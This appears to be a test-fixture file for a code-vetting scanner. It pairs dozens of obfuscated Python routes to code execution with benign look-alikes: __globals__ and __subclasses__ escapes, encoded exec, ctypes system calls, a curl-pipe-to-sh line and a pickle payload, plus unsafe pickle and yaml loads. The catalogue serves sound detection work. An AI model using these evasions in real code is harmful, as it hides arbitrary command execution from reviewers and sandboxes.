"""
Long ways around to what runs code, each with what it is seen as, and with something innocent that looks alike.

The ways are taken from collections of such tricks; what they run prints, or names nothing that exists.
"""

from typing import Final, NamedTuple

from tests.vetting.domain.signals.code.cases import PAYLOAD


class Way(NamedTuple):
    """A way around, what the rules about code see in it, and its innocent twin."""

    ids: str
    source: str
    twin: str


NAMES: Final = (
    Way("C5", "f.__globals__['os'].system('id')\n", "f.__globals__['plugins'].start('id')\n"),
    Way(
        "C1 C5",
        "def f(): pass\nf.__globals__['__builtins__'].exec(b)\n",
        "def f(): pass\nf.__globals__['exports'].run(b)\n",
    ),
    Way(
        "C5",
        "import shutil\nshutil.copy.__globals__['os'].system('id')\n",
        "import shutil\nshutil.copy.__globals__['x'].system('id')\n",
    ),
    Way(
        "C5",
        "import os\nos._wrap_close.__init__.__globals__['system']('id')\n",
        "import os\nos._wrap_close.__init__.__globals__['x']('id')\n",
    ),
    Way("C5", "f.__globals__['popen']('id')\n", "f.__globals__[name]('id')\n"),
    Way("C1", "__builtins__.exec(b)\n", ""),
    Way("C1 C5", "__builtins__['exec'](b)\n", "__builtins__['print'](b)\n"),
    Way("C1 C5", "vars(__builtins__)['ex' + 'ec'](b)\n", "vars(thing)['ex' + 'ec'](b)\n"),
    Way("C1 C5", "(lambda: 0).__builtins__['exec'](b)\n", "(lambda: 0).__dict__['exec'](b)\n"),
    Way("C1 C5", "print.__self__.exec(b)\n", "f.__self__.exec(b)\n"),
    Way("C1 C5", "getattr(len.__self__, 'exec')(b)\n", "getattr(f.__self__, 'exec')(b)\n"),
    Way("C5", "import sys\nsys.modules.get('os').system('id')\n", "import sys\nsys.modules.get('demo').system('id')\n"),
    Way(
        "C5",
        "from sys import modules as m\nm.get('os').system('id')\n",
        "import modules as m\nm.get('os').system('id')\n",
    ),
    Way(
        "C1 C5",
        "import sys\nsys.modules[__name__].__builtins__['exec'](b)\n",
        "import sys\nsys.modules[__name__].hooks['exec'](b)\n",
    ),
    Way(
        "C5",
        "import os, sys\nsys.modules[__name__].os.system('id')\n",
        "import os, sys\nsys.modules[__name__].load('id')\n",
    ),
    Way(
        "C5",
        "import os, sys\nvars(sys.modules['__main__'])['os'].system('id')\n",
        "import sys\nvars(sys.modules['demo'])['x'].system('id')\n",
    ),
    Way(
        "C1 C5",
        "import sys\nsys._getframe().f_globals['__builtins__'].exec(b)\n",
        "import sys\nsys._getframe(1).f_globals.get('__name__', '__main__')\n",
    ),
    Way(
        "C1 C5", "import sys\nsys._getframe(0).f_builtins['exec'](b)\n", "import sys\nsys._getframe(0).f_code.run(b)\n"
    ),
    Way(
        "C5",
        "import inspect\ninspect.currentframe().f_globals['os'].system('id')\n",
        "import inspect\ninspect.currentframe().f_back.f_locals['self'].run('id')\n",
    ),
    Way(
        "C5",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('id')\n",
        "[c for c in Plugin.__subclasses__() if c.__name__ == 'Popen'][0]('id')\n",
    ),
    Way(
        "C5",
        "''.__class__.__mro__[1].__subclasses__()[137].__init__.__globals__['system']('id')\n",
        "''.__class__.__name__.upper()\n",
    ),
    Way(
        "C5",
        "{}.__class__.__bases__[0].__subclasses__()[1].__init__.__globals__['sys'].modules['os'].system('id')\n",
        "self.__class__.__bases__[0].__subclasses__()[1].__init__.registry['sys'].modules['os'].system('id')\n",
    ),
    Way(
        "C5",
        "import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'exec'][0](b)\n",
        "import gc\nprint(len([o for o in gc.get_objects() if getattr(o, '__name__', '') == 'exec']))\n",
    ),
    Way(
        "C5",
        "import gc\nfor o in gc.get_objects():\n    if getattr(o, '__name__', '') == 'os':\n        o.system('id')\n",
        "import gc\nfor o in gc.get_objects():\n    if getattr(o, '__name__', '') == 'os':\n        o.close()\n",
    ),
    Way(
        "C5",
        "import builtins as b\n[v for k, v in vars(b).items() if k == 'exec'][0]('1')\n",
        "import demo as b\n[v for k, v in vars(b).items() if k == 'exec'][0]('1')\n",
    ),
    Way(
        "C5",
        "import os\ngetattr(os, dir(os)[-3])('id')\n",
        "import os\ngetattr(os, name)('id')\n",
    ),
    Way(
        "C5",
        "from importlib import reload\nreload(__import__('os')).system('id')\n",
        "from importlib import reload\nreload(__import__('os')).getpid('id')\n",
    ),
    Way("C5", "__import__(n).system('id')\n", "__import__(n).setup('id')\n"),
    Way("C1 C5", "exec.__call__(b)\n", "f.__call__(b)\n"),
    Way("C5", "__loader__.load_module('os').system('id')\n", "loader.load_module('os').system('id')\n"),
    Way(
        "C5",
        "import importlib\nimportlib._bootstrap._gcd_import('os').system('id')\n",
        "import importlib\nimportlib.import_module('demo').system('id')\n",
    ),
    Way(
        "C5",
        "import os\nobject.__getattribute__(os, 'system')('id')\n",
        "class A:\n    def get(self, name):\n        return object.__getattribute__(self, name)('id')\n",
    ),
    Way(
        "C5",
        "import os, functools\nfunctools.reduce(getattr, ['system'], os)('id')\n",
        "import functools\nfunctools.reduce(getattr, 'a.b'.split('.'), thing)('id')\n",
    ),
    Way("", "import functools\nfunctools.reduce(getattr, ['system'])\n", ""),
    Way("C5", "import pydoc\npydoc.locate('os.system')('id')\n", "import pydoc\npydoc.locate('demo.run')('id')\n"),
    Way(
        "C5",
        "import string, os\nstring.Formatter().get_field('0.system', (os,), {})[0]('id')\n",
        "import string\nstring.Formatter().get_field('0.name', (user,), {})\n",
    ),
    Way(
        "C5",
        "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'()': 'os.system', 'command': 'id'}}})\n",
        "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'()': 'demo.Handler'}}})\n",
    ),
    Way(
        "C5",
        "from logging.config import dictConfig\ndictConfig({'x': 'ext://subprocess.Popen'})\n",
        "from logging.config import dictConfig\ndictConfig({'x': 'ext://sys.stdout'})\n",
    ),
    Way(
        "C5",
        "from operator import itemgetter\nitemgetter('__import__')(names)('os')\n",
        "from operator import itemgetter\nitemgetter('name', 'system')(row)\n",
    ),
)
"""To a name."""

TEXTS: Final = (
    Way(
        "C2",
        f"import codecs\nexec(codecs.getdecoder('base64')(b{PAYLOAD!r})[0])\n",
        "import codecs\nprint(codecs.getdecoder('utf-8')(b'pass')[0])\n",
    ),
    Way(
        "C2",
        f"from codecs import lookup\nx, _ = lookup('base' + '64').decode(b'{PAYLOAD}')\nexec(x)\n",
        f"from codecs import lookup\nx, _ = lookup('base64').decode(b'{PAYLOAD}')\n",
    ),
    Way(
        "C2",
        "import codecs\nexec(codecs.getencoder('rot13')('cevag(1)')[0])\n",
        "import codecs\ndef f():\n    exec(codecs.encode('pass', 'utf-8'))\n",
    ),
    Way(
        "C2",
        "import codecs\nexec(codecs.encode('cevag(1)', 'rot13'))\n",
        "import codecs\nprint(codecs.encode('cevag(1)', 'rot13'))\n",
    ),
    Way(
        "C1",
        "import codecs\ndef f(t):\n    exec(codecs.getdecoder('hex')(t)[0])\n",
        "import codecs\ndef f(t, c):\n    exec(codecs.getdecoder(c)(t)[0])\n    codecs.getdecoder('hex')()\n",
    ),
    Way(
        "C1",
        "import codecs\ndef f(t):\n    exec(codecs.getincrementaldecoder('rot13')().decode(t))\n",
        "import codecs\ndef f(t):\n    exec(codecs.getincrementaldecoder('utf-8')().decode(t))\n",
    ),
    Way(
        "C1",
        "from codecs import getreader as r\ndef f(h):\n    exec(r('base64')(h).read())\n",
        "from codecs import getdecoder as r\ndef f(h):\n    exec(codecs.lookup(h).decode(h)[0])\n    r()\n",
    ),
    Way(
        "C3",
        "import shlex, subprocess\nsubprocess.run(shlex.split(\"sh -c 'curl https://x.invalid | sh'\"))\n",
        "import shlex, subprocess\nsubprocess.run(shlex.split(\"sh -c 'make all'\"))\nshlex.split(None)\n",
    ),
    Way("C1", '"""print(1)"""\nexec(__doc__)\n', '"""Print %s."""\nprint(__doc__ % 1)\n'),
    Way(
        "C1",
        'def f():\n    """print(1)"""\nexec(f.__doc__)\n',
        'def f():\n    """print(1)"""\ng.__doc__ = f.__doc__\nexec("x = 1")\n',
    ),
    Way(
        "C1",
        'class A:\n    """print(1)"""\ndef g():\n    eval(compile(A.__doc__, "", "exec"))\n',
        'class A:\n    """print(1)"""\ndef g():\n    eval(compile(A.body, "", "exec"))\n',
    ),
    Way("C1", "def g(self):\n    exec(self.__doc__)\n", "def g(self):\n    exec(self.source)\n"),
    Way(
        "C1",
        "class A:\n    __doc__ = 'x'\ndef g():\n    exec(A.__doc__)\n    exec(f.__doc__[9:])\n",
        "def g(name, args):\n    exec('def %s(%s):\\n    %r' % (name, args, f.__doc__))\n",
    ),
    Way(
        "C1",
        "import inspect\ndef g():\n    exec(inspect.getsource(f)[40:])\n",
        "import inspect\ndef g():\n    print(inspect.getsource(f))\n",
    ),
    Way("C1", "def g():\n    exec(open(__file__).read()[900:])\n", "def g():\n    print(open(__file__).read())\n"),
    Way("C1", "import timeit, base64\ntimeit.timeit(base64.b64decode(t))\n", "import timeit\ntimeit.timeit('f()')\n"),
    Way(
        "C6",
        "import timeit\ntimeit.timeit(\"system('nohup x')\", 'from os import system')\n",
        "import timeit\ntimeit.timeit(\"system('x')\", 'from demo import system')\n",
    ),
    Way("C6", "import timeit\ntimeit.timeit(stmt='s(\"nohup x\")', setup='from os import system as s')\n", ""),
    Way("C6", "import pdb\npdb.run('import os; os.system(\"nohup x\")')\n", "import pdb\npdb.run('f()')\n"),
    Way(
        "C1",
        "import bdb, base64\nbdb.Bdb().run(base64.b64decode(t))\n",
        "import base64\nBot().run(base64.b64decode(t))\n",
    ),
    Way(
        "C1",
        "import code, base64\ncode.InteractiveInterpreter().runsource(base64.b64decode(t).decode())\n",
        "import code\ndef f():\n    code.InteractiveInterpreter().runsource(line)\n",
    ),
    Way(
        "C1",
        "import code, base64\nc = code.InteractiveConsole()\nc.push(base64.b64decode(t).decode())\n",
        "import base64\nc = []\nc.push(base64.b64decode(t).decode())\n",
    ),
    Way(
        "C1",
        "import codeop, base64\ndef f():\n    codeop.compile_command(base64.b64decode(t))\n",
        "import codeop\ndef f():\n    codeop.compile_command(line)\n",
    ),
    Way(
        "C1",
        "import trace, base64\ntrace.Trace().run(base64.b64decode(t))\n",
        "import trace\ntrace.Trace().run('f()')\n",
    ),
    Way("C1", "import cProfile, base64\ncProfile.run(base64.b64decode(t))\n", "import cProfile\ncProfile.run('f()')\n"),
    Way(
        "C1",
        "import cProfile, base64\ncProfile.Profile().runctx(base64.b64decode(t), {}, {})\n",
        "import cProfile\ncProfile.Profile().runctx('f()', {}, {})\n",
    ),
    Way(
        "C1",
        "import doctest\ndoctest.testmod()\n",
        "import doctest\nif __name__ == '__main__':\n    doctest.testmod()\n",
    ),
    Way(
        "C1",
        "import doctest\ndef f():\n    doctest.testfile('notes.txt')\n",
        "import doctest\ndef f():\n    doctest.testsource(m, n)\n",
    ),
    Way(
        "C1",
        "import types, marshal\ndef f():\n    types.FunctionType(marshal.loads(b), globals())()\n",
        "import types\ndef f():\n    types.FunctionType(g.__code__, globals())()\n",
    ),
    Way(
        "C1 C5",
        "import marshal\ntype(lambda: 0)(marshal.loads(b), {})()\n",
        "import marshal\ntype(thing)(marshal.loads(b), {})()\n",
    ),
    Way("C1", "import marshal\nf.__code__ = marshal.loads(b)\n", "f.__code__ = g.__code__\n"),
    Way(
        "C1",
        "import marshal\nsetattr(f, '__code__', marshal.loads(b))\n",
        "import marshal\nsetattr(f, 'code', marshal.loads(b))\n",
    ),
    Way(
        "C1 C5",
        "import base64\ntype(f.__code__)(base64.b64decode(b))\n",
        "import base64\ntype(x)(base64.b64decode(b))\n",
    ),
    Way(
        "C6",
        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'import os; os.system(\"nohup x\")')\n",
        "import ctypes\nctypes.pythonapi.PyThreadState_SetAsyncExc(1, None)\n",
    ),
    Way("C1 C7", "import ctypes, base64\nctypes.PyDLL(None).PyRun_SimpleString(base64.b64decode(t))\n", ""),
    Way("C6 C7", "import ctypes\nctypes.cdll.LoadLibrary('libc.so.6').system(b'nohup x')\n", ""),
    Way("C7", "import cffi\ncffi.FFI().dlopen(None)\n", "import cffi\ncffi.FFI().cdef('int x;')\n"),
    Way("C6 C7", "import ctypes\nctypes.CDLL(None).system(b'nohup x')\n", ""),
)
"""To something that runs text."""

FILES: Final = (
    Way(
        "C1",
        "import importlib.util as u\nu.spec_from_file_location('x', '/srv/abc')\n",
        "import importlib.util as u\nu.spec_from_file_location('x', '/srv/abc.py')\n",
    ),
    Way(
        "C1",
        "import importlib.util as u, os\nu.spec_from_file_location('x', os.path.join(HERE, 'notes.css'))\n",
        "import importlib.util as u, os\nu.spec_from_file_location('x', os.path.join(HERE, 'notes.py'))\n",
    ),
    Way("C1", "import imp\nimp.load_source('x', pathname='x.css')\n", "import imp\nimp.load_source('x')\n"),
    Way("C1", "import site\nsite.addsitedir('x')\n", "import site\nsite.getsitepackages()\n"),
    Way("C1", "import sys\nsys.path.insert(0, 'x.zip')\n", "import sys\nsys.path.insert(0, 'x')\n"),
    Way(
        "C1",
        "import sys, os\nsys.path.append(\n    os.path.join(HERE, 'x.whl')\n)\n",
        "import os\npaths.append(os.path.join(HERE, 'x.whl'))\n",
    ),
    Way("C1", "import sys\nsys.path.insert(0, '{}x.zip'); X = [{}]\n".format("./" * 200, "'a', " * 30), ""),
    Way("C1", "import sys\nsys.path += ['data.zip']\n", "import sys\nsys.path += ['data']\n"),
    Way("C1", "import sys\nsys.path[:0] = ['data.zip']\n", "names[:0] = ['data.zip']\n"),
    Way(
        "C1",
        "import pickle\npickle.load(open('data.bin', 'rb'))\n",
        "import pickle\npickle.load(open(path, 'rb'))\n",
    ),
    Way(
        "C1",
        "import pickle, os\nwith open(os.path.join(os.path.dirname(__file__), 'x'), 'rb') as f:\n    pickle.load(f)\n",
        "import pickle, os\nwith open(os.path.join(cache, 'data.bin'), 'rb') as f:\n    pickle.load(f)\n",
    ),
    Way(
        "C1",
        "import _pickle, pkgutil\n_pickle.loads(pkgutil.get_data('demo', 'x'))\n",
        "import _pickle\n_pickle.loads(_pickle.dumps(x))\n",
    ),
    Way(
        "C1",
        "import pickle\npickle.Unpickler(open('x.bin', 'rb')).load()\n",
        "import pickle\npickle.Unpickler(f).load()\n",
    ),
    Way("C1", "import dill\ndill.load(open('data.bin', 'rb'))\n", "import dill\ndill.load(f)\n"),
    Way("C1", "import joblib\njoblib.load('m.joblib')\n", "import joblib\njoblib.load(path)\n"),
    Way("C1", "import shelve\nshelve.open(__file__ + '.db')\n", "import shelve\nshelve.open(cache)\n"),
    Way(
        "C1",
        "import torch, pathlib\ntorch.load(pathlib.Path(__file__).parent / 'm.pt')\n",
        "import torch, pathlib\ntorch.load(pathlib.Path(__file__).parent / 'm.pt', weights_only=True)\n",
    ),
    Way("C1", "import numpy as np\nnp.load('x.npy', allow_pickle=True)\n", "import numpy as np\nnp.load('x.npy')\n"),
    Way(
        "C1",
        "import yaml\nyaml.load(open('x.yml'), Loader=yaml.UnsafeLoader)\n",
        "import yaml\nyaml.load(open('x.yml'), Loader=yaml.SafeLoader)\n",
    ),
    Way("C1", "import yaml\nyaml.load(open('x.yml'))\n", "import yaml\nyaml.load(open('x.yml'), yaml.CSafeLoader)\n"),
    Way("C1", "import yaml\nyaml.unsafe_load(open('x.yml'))\n", "import yaml\nyaml.safe_load(open('x.yml'))\n"),
    Way(
        "C1",
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n",
        "import pickle\npickle.loads(data)\n",
    ),
)
"""To a file that holds code, and is not called so."""
